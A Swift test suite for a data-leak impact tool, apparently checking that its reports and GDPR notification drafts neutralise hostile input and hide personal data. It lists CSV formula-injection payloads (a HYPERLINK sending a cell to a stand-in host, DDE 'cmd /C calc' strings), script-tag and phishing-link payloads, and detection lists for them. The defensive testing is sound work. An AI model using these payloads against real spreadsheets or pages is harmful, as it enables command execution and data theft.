import Foundation
import Testing
@testable import ImpactCore

/// Issue 7, safe outputs and privacy, through the binary: every output a person opens (text
/// report, JSON report, Markdown, HTML and JSON drafts, the incident template, standard error
/// with and without `--verbose`, error messages) is produced from a leak whose header, cells and
/// laboratory names carry formula, HTML, Markdown and terminal-escape payloads
/// (``HostileLeak``; case `023-csv-formula-injection`), then checked: no payload starts a cell
/// or line unneutralised, nothing can run in a browser or drive a terminal, and no value that
/// identifies a person appears anywhere.
@Suite(.serialized) struct OutputSafetyCommandLineTests {
    typealias CLI = CommandLineTests

    enum Kind: String { case text, json, markdown, html, yaml }

    struct Output {
        var name: String
        var kind: Kind
        var content: String
    }

    /// Runs every command over the hostile leak once and gathers what each printed or wrote.
    static let outputs: [Output] = {
        do { return try gather() } catch { return [Output(name: "gather failed: \(error)", kind: .text, content: "")] }
    }()

    static func gather() throws -> [Output] {
        let dir = try TestPaths.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let (csv, jsonl) = try HostileLeak.write(to: dir)
        var outputs: [Output] = []
        func add(_ name: String, _ r: CLI.Run, _ kind: Kind, status: Int32) {
            outputs.append(Output(name: "\(name) stdout (exit \(r.status), expected \(status))", kind: kind,
                                  content: r.status == status ? r.stdout : "unexpected exit \(r.status): \(r.stderr)"))
            outputs.append(Output(name: "\(name) stderr", kind: .text, content: r.stderr))
        }
        let lab = ["--controller-column", "laboratoire"]
        add("text report", try CLI.run([csv] + lab), .text, status: 0)
        add("text report with masked examples", try CLI.run([csv, "--keep-masked-examples"] + lab), .text, status: 0)
        add("JSON report with masked examples", try CLI.run([csv, "--keep-masked-examples", "--format", "json"] + lab), .json, status: 0)
        add("verbose JSON report", try CLI.run([csv, "--verbose", "--format", "json"] + lab), .json, status: 0)
        add("strict, rejected records", try CLI.run([csv, "--strict", "--max-field-bytes", "50"] + lab), .text, status: 2)
        add("JSON Lines with broken lines", try CLI.run([jsonl] + lab), .text, status: 0)
        add("JSON Lines, JSON report", try CLI.run([jsonl, "--format", "json"] + lab), .json, status: 0)
        add("truncated gzip", try CLI.run([], shell: "gzip -c '\(csv)' | head -c 600 > '\(csv).cut.gz'; '\(CLI.binary)' '\(csv).cut.gz' --controller-column laboratoire"), .text, status: 65)
        add("usage error", try CLI.run([csv, "--delimiter", "x"]), .text, status: 64)
        let report = dir.appendingPathComponent("report.json").path
        add("JSON report to a file", try CLI.run([csv, "--format", "json", "--out", report] + lab), .text, status: 0)
        outputs.append(Output(name: "report.json", kind: .json, content: try String(contentsOfFile: report, encoding: .utf8)))
        let drafts = dir.appendingPathComponent("drafts").path
        add("draft", try CLI.run(["draft", report, "--out", drafts, "--as-processor"]), .text, status: 0)
        add("draft --lang en", try CLI.run(["draft", report, "--out", drafts + "-en", "--lang", "en"]), .text, status: 0)
        add("incident template", try CLI.run(["draft", "--incident-template", report]), .yaml, status: 0)
        add("draft of a leak instead of a report", try CLI.run(["draft", csv]), .text, status: 65)
        for root in [drafts, drafts + "-en"] {
            let files = FileManager.default.enumerator(atPath: root)?.compactMap { $0 as? String } ?? []
            for f in files.sorted() {
                let kind: Kind? = f.hasSuffix(".md") ? .markdown : f.hasSuffix(".html") ? .html : f.hasSuffix(".json") ? .json : nil
                guard let kind else { continue }
                outputs.append(Output(name: "draft \(f)", kind: kind,
                                      content: try String(contentsOfFile: root + "/" + f, encoding: .utf8)))
            }
        }
        return outputs
    }

    @Test func everyCommandRanWithItsExpectedExitCode() {
        #expect(Self.outputs.count > 30)
        for o in Self.outputs where o.content.hasPrefix("unexpected exit") || o.name.hasPrefix("gather failed") {
            Issue.record("\(o.name): \(o.content.prefix(300))")
        }
        // Drafts were written for every laboratory, in both languages, in every format.
        for suffix in ["notification.fr.md", "notification.fr.html", "notification.fr.json", "letter-art34.fr.html",
                       "processor-notice.fr.md", "notification.en.html"] {
            #expect(Self.outputs.filter { $0.name.hasSuffix(suffix) }.count == HostileLeak.laboratories.count, "\(suffix)")
        }
    }

    // MARK: - Formulas

    /// A payload: its leading character, the rest, and whether it is a laboratory name (shown
    /// in every output) or only a column name (shown in the reports, not in the drafts).
    static let payloads: [(lead: Character, core: String, laboratory: Bool)] = [
        ("=", "HYPERLINK(\"http://exemple.invalid/?d=\"&A1,\"Labo Alpha\")", true),
        ("=", "HYPERLINK(\"http://exemple.invalid/h\",\"Ouvrir\")", false),
        ("+", "cmd|' /C calc'!A0", true),
        ("@", "SUM(1+1)*cmd|' /C calc'!A0", true),
        ("@", "SUM(A1:A9)", false),
        ("-", "2+3+cmd|' /C calc'!A0", true),
    ]

    static func render(_ s: String, _ kind: Kind) -> String {
        switch kind {
        case .text: return OutputSafety.plainText(s)
        case .markdown: return OutputSafety.markdown(s)
        case .html: return OutputSafety.html(s)
        case .json, .yaml: return OutputSafety.plainText(s).replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"")
        }
    }

    /// Each place where a payload begins without the neutralising apostrophe.
    static func unneutralised(_ o: Output) -> [String] {
        var found: [String] = []
        for (lead, core, _) in payloads {
            let rendered = render(core, o.kind)
            var searchFrom = o.content.startIndex
            while let r = o.content.range(of: rendered, range: searchFrom..<o.content.endIndex) {
                searchFrom = r.upperBound
                var before = o.content[..<r.lowerBound]
                guard before.last == lead else { continue }
                before = before.dropLast()
                if o.kind == .markdown, before.last == "\\" { before = before.dropLast() }
                if before.hasSuffix("'") || before.hasSuffix("&#39;") { continue }
                // The payload starts a cell or a line when what precedes it is a boundary (not a
                // letter or digit of a longer text, as in `'-2+3+cmd…`).
                guard let previous = before.last, !previous.isWhitespace, !"\"|;,>:([{".contains(previous) else {
                    found.append("\(lead)\(core.prefix(12))… after \(before.suffix(20).debugDescription)")
                    continue
                }
            }
        }
        return found
    }

    @Test func noFormulaPayloadStartsUnneutralised() {
        for o in Self.outputs {
            let found = Self.unneutralised(o)
            #expect(found.isEmpty, "\(o.name): \(found.prefix(3))")
        }
        // Not vacuous: each payload is echoed, neutralised, in each kind of output that shows it.
        for kind in [Kind.text, .json, .markdown, .html, .yaml] {
            let all = Self.outputs.filter { $0.kind == kind }.map(\.content).joined(separator: "\n")
            for (lead, core, laboratory) in Self.payloads where laboratory || kind == .text || kind == .json {
                let neutral = Self.render(String(lead) + core, kind)
                #expect(all.contains(neutral), "\(kind): \(lead)\(core.prefix(12))… is not shown neutralised")
            }
        }
    }

    /// JSON outputs (report, drafts), structurally: no string value starts with a formula
    /// character, TAB or CR, or holds a control character other than a line feed.
    @Test func noJSONStringStartsAFormulaOrHoldsAControlCharacter() throws {
        func strings(_ v: Any, into out: inout [String]) {
            if let s = v as? String { out.append(s) }
            else if let a = v as? [Any] { for x in a { strings(x, into: &out) } }
            else if let d = v as? [String: Any] { for (k, x) in d { out.append(k); strings(x, into: &out) } }
        }
        var checked = 0
        for o in Self.outputs where o.kind == .json {
            let value = try JSONSerialization.jsonObject(with: Data(o.content.utf8))
            var all: [String] = []
            strings(value, into: &all)
            // `@cats:a,b` arguments of the assessment's reasons are ours (category ids), not text of the leak.
            for s in all where !s.hasPrefix("@cats:") {
                checked += 1
                let first = s.unicodeScalars.first
                #expect(!(first.map { "=+@\t\r".unicodeScalars.contains($0) } ?? false), "\(o.name): \(s.prefix(40).debugDescription)")
                if first == "-", let second = s.unicodeScalars.dropFirst().first {
                    #expect(second == " ", "\(o.name): a string starts with -\(second)")
                }
                #expect(!s.unicodeScalars.contains { ($0.value < 0x20 && $0 != "\n") || $0.value == 0x7F || (0x80..<0xA0).contains($0.value) },
                        "\(o.name): a control character in a string")
            }
        }
        #expect(checked > 1000)
    }

    /// Nothing drives a terminal or a browser: no escape, BEL, CR or other control character in
    /// any output (line feeds aside, and the tabs of the HTML and Markdown templates), no TAB
    /// from the leak; HTML holds no tag or link from the leak, Markdown no link or raw tag.
    @Test func noTerminalEscapeNoTagNoLinkFromTheLeak() {
        for o in Self.outputs {
            let controls = o.content.unicodeScalars.filter {
                ($0.value < 0x20 && $0 != "\n" && !($0 == "\t" && (o.kind == .html || o.kind == .markdown)))
                    || $0.value == 0x7F || (0x80..<0xA0).contains($0.value)
            }
            #expect(controls.isEmpty, "\(o.name): control characters \(controls.prefix(3).map { $0.value })")
            for tabbed in ["\tLabo Tab", "\tcol tab", "\tx"] { #expect(!o.content.contains(tabbed), "\(o.name)") }
            switch o.kind {
            case .html:
                for bad in ["<script", "<img", "href=\"http://exemple.invalid", "href=\"javascript", "<a "] {
                    #expect(!o.content.contains(bad), "\(o.name): \(bad)")
                }
            case .markdown:
                for bad in ["](javascript:", "](http://exemple.invalid"] { #expect(!o.content.contains(bad), "\(o.name): \(bad)") }
                for tag in ["<script", "<img", "</script"] {
                    var from = o.content.startIndex
                    while let r = o.content.range(of: tag, range: from..<o.content.endIndex) {
                        #expect(o.content[..<r.lowerBound].last == "\\", "\(o.name): raw \(tag)")
                        from = r.upperBound
                    }
                }
            default:
                break
            }
        }
        // The payloads are shown, escaped.
        let html = Self.outputs.filter { $0.kind == .html }.map(\.content).joined()
        #expect(html.contains("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; Labo Beta"))
        #expect(html.contains("[Labo Gamma](http://exemple.invalid/phish)"))
        let markdown = Self.outputs.filter { $0.kind == .markdown }.map(\.content).joined()
        #expect(markdown.contains("\\[Labo Gamma\\]\\(http://exemple\\.invalid/phish\\)"))
        #expect(markdown.contains("\\<script\\>alert\\(\"x\"\\)\\</script\\> Labo Beta"))
    }

    /// `--keep-masked-examples` (issue 4 §3): the masks of the payload cells keep a formula's
    /// shape, and every report shows them neutralised (the other tests of this suite check both
    /// outputs like every other: no formula, no control character, no identifying value).
    @Test func maskedExamplesAreShownNeutralised() throws {
        let text = try #require(Self.outputs.first { $0.name.hasPrefix("text report with masked examples stdout") })
        let lines = text.content.split(separator: "\n").filter { $0.hasPrefix("      masked examples: ") }
        #expect(lines.count == 8 + HostileLeak.hostileHeaders.count)
        // The laboratory column: formulas, a terminal escape (ESC and BEL become `?`), tab and CR trimmed.
        #expect(lines.contains { $0.contains("'=XXXXXXXXX(\"xxxx://xxxxxxx.xxxxx… | '+xxx|' /X xxxx'!X9 | '@XXX(9+9)*xxx|' /X xxxx'!X9") })
        let json = try #require(Self.outputs.first { $0.name.hasPrefix("JSON report with masked examples stdout") })
        let report = try ReportJSON.decode(Data(json.content.utf8))
        let nir = try #require(report.fields.first { $0.role == "nir" })
        #expect(nir.maskedExamples == ["999999999999999"])
        let all = report.fields.flatMap { $0.maskedExamples ?? [] }
        #expect(all.count > 20)
        #expect(all.allSatisfy { $0.unicodeScalars.first.map { !"=+-@".unicodeScalars.contains($0) } ?? false })
        // Without the flag, no report holds examples.
        let plain = try #require(Self.outputs.first { $0.name.hasPrefix("verbose JSON report stdout") })
        #expect(!plain.content.contains("masked_examples"))
    }

    // MARK: - Privacy

    /// No value that identifies a person (names, NIR, e-mail, phone, birth date, health comment,
    /// as written or normalised) appears in any output, log line or error message, including
    /// `--verbose`, rejections of broken lines and failures.
    @Test func noIdentifyingValueInAnyOutputOrMessage() {
        let values = HostileLeak.identifyingValues.filter { $0.count >= 6 }
        #expect(values.count > 150)
        for o in Self.outputs {
            let leaked = values.filter { o.content.contains($0) }
            #expect(leaked.isEmpty, "\(o.name) holds \(leaked.count) identifying values, e.g. one of \(leaked.first?.count ?? 0) characters")
        }
    }

    /// `--verbose` gives progress and timings per input (records, MB, MB/s) on standard error.
    @Test func verboseReportsRecordsAndThroughputPerInput() throws {
        let verbose = try #require(Self.outputs.first { $0.name == "verbose JSON report stderr" })
        let lines = verbose.content.split(separator: "\n")
        #expect(lines.count == 2)
        #expect(lines.first?.contains("leak.csv: read: 18 records") == true)
        #expect(lines.first?.contains(" MB/s") == true)
        #expect(lines.last?.hasPrefix("impact: 18 records from 1 input analysed and reported in ") == true)
    }
}
